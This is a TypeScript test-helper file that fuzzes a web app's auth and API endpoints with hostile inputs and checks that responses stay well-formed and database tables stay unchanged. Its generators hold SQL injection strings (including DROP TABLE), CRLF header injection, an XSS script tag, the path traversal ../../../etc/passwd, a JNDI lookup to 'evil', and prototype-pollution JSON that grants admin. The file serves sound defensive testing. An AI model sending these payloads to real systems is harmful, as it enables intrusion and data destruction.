import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { expect } from 'vitest';
import type { TestContext } from './context.ts';

/** Strings an attacker (or a confused client) sends: SQL, header injection, markup, control characters. */
export const nastyString = fc.constantFrom(
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; select pg_sleep(5)',
  "%' --",
  'admin\'--',
  'a\r\nSet-Cookie: charla_session=evil',
  'x\nLocation: http://evil.example',
  '\u0000',
  '\u0000\u0001\u0002\u001f',
  '\u202eevil',
  '<script>alert(1)</script>',
  '../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, literally.
  '${jndi:ldap://evil}',
  '{{7*7}}',
  '%00',
  '\uD800',
  '\uFEFF',
  'ñandú São Paulo 日本語 🎉',
  '',
  ' ',
);

/** Keys that try to pollute prototypes or smuggle privileges. */
export const nastyKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '$where', 'isAdmin', 'role', 'organizationId', 'id', ''),
  fc.string({ maxLength: 12 }),
);

/** A very long string (cheap to build: repeated characters). */
export const hugeString = fc.tuple(fc.integer({ min: 1_000, max: 200_000 }), fc.constantFrom('a', 'é', '🎉', "'", '\\')).map(([n, c]) => c.repeat(n));

/** Any scalar a JSON body can hold, biased towards trouble. */
export const nastyScalar = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  nastyString,
  hugeString,
  fc.integer(),
  fc.double(),
  fc.constantFrom(0, -1, 1e308, -1e308, 2 ** 53 + 1, 0.1),
  fc.boolean(),
  fc.constant(null),
);

/** Any JSON value, nested, with nasty keys and scalars. */
export const nastyValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    nastyScalar,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(nastyKey, tie('value'), { maxKeys: 4 }),
  ),
})).value;

/**
 * A body for an endpoint: each known field is absent, valid or hostile; sometimes extra hostile keys;
 * sometimes the whole body is something else entirely (an array, a string, a number).
 */
export function bodyFor(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  const record = fc.record(
    Object.fromEntries(Object.entries(fields).map(([k, valid]) => [k, fc.oneof(valid, nastyValue)])),
    { requiredKeys: [] },
  );
  const withExtras = fc.tuple(record, fc.dictionary(nastyKey, nastyValue, { maxKeys: 3 })).map(([r, extra]) => ({ ...extra, ...r }));
  return fc.oneof({ weight: 5, arbitrary: record }, { weight: 2, arbitrary: withExtras }, { weight: 1, arbitrary: nastyValue });
}

/** A raw payload that is not (or not quite) JSON, including prototype-poisoning JSON text. */
export const nastyRawBody = fc.oneof(
  fc.string({ maxLength: 200 }),
  fc.constantFrom(
    '{"__proto__": {"isAdmin": true}}',
    '{"constructor": {"prototype": {"isAdmin": true}}}',
    '{"email": "a@b.c", "password": "12345678", "__proto__": {"role": "owner"}}',
    '{',
    '{"a":',
    '[',
    'null',
    'true',
    '"string"',
    '1e999',
    '{"a": NaN}',
    '\u0000',
    '{"a": "\\ud800"}',
  ),
);

/** A fingerprint of every table an auth, settings or API-key request could touch. */
export async function snapshot(ctx: TestContext, options: { except?: string[] } = {}): Promise<Record<string, string>> {
  const tables: Record<string, ReturnType<typeof sql>> = {
    organizations: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from organizations t`,
    users: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from users t`,
    memberships: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from memberships t`,
    invitations: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from invitations t`,
    password_resets: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from password_resets t`,
    // Sliding expiry and last use are bookkeeping of reads, not state a request changes.
    sessions: sql`select md5(coalesce(string_agg(concat_ws(',', id, user_id, token_hash, active_organization_id), '|' order by id), '')) from sessions`,
    api_keys: sql`select md5(coalesce(string_agg(concat_ws(',', id, organization_id, name, prefix, key_hash, revoked_at), '|' order by id), '')) from api_keys`,
    audit_log: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from audit_log t`,
    mail_outbox: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from mail_outbox t`,
    jobs: sql`select md5(coalesce(string_agg(t::text, '|' order by t.id), '')) from jobs t`,
  };
  const out: Record<string, string> = {};
  for (const [name, query] of Object.entries(tables)) {
    if (options.except?.includes(name)) continue;
    const [row] = await ctx.container.database.rows<{ md5: string }>(query);
    out[name] = row!.md5;
  }
  return out;
}

/** Asserts the response is not a server error, and that a rejection is a problem document. */
export function expectWellFormed(res: LightMyRequestResponse, input: unknown): void {
  const where = `for input ${safeJson(input).slice(0, 300)}`;
  expect(res.statusCode, `${where}: ${res.body.slice(0, 300)}`).toBeLessThan(500);
  if (res.statusCode >= 400) {
    expect(res.headers['content-type'], where).toMatch(/^application\/problem\+json/);
    const body = JSON.parse(res.body) as { status: number; code: unknown; type: unknown };
    expect(body.status, where).toBe(res.statusCode);
    expect(typeof body.code, where).toBe('string');
    expect(body.type, where).toBe(`urn:charla:error:${String(body.code)}`);
  }
}

function safeJson(v: unknown): string {
  try {
    return JSON.stringify(v) ?? String(v);
  } catch {
    return String(v);
  }
}

/** How many cases each property runs (FAST_CHECK_RUNS overrides, e.g. for a long soak). */
export const RUNS = Number(process.env.FAST_CHECK_RUNS ?? 60);

/** Whether a string can be put in a URL at all (lone surrogates cannot). */
export function encodable(s: string): boolean {
  try {
    encodeURIComponent(s);
    return true;
  } catch {
    return false;
  }
}
